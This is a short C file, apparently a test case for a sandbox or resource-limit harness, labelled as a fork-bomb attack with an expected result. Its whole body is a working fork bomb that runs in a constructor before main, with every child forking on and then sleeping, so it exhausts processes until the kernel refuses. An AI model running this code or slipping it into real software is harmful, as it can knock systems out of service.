// attack: fork bomb: before main, fork until the kernel refuses (every child forks too, then sleeps), then go on as the stub | expect: stub, no process left | base: stub
#define _GNU_SOURCE
#include <unistd.h>

__attribute__((constructor)) static void fork_bomb(void)
{
    pid_t me = getpid();
    for (int i = 0; i < 4096; i++) {
        pid_t pid = fork();
        if (pid < 0)
            break;
        if (pid == 0)
            continue;    /* the child forks on too */
    }
    if (getpid() != me) {
        sleep(600);
        _exit(0);
    }
}
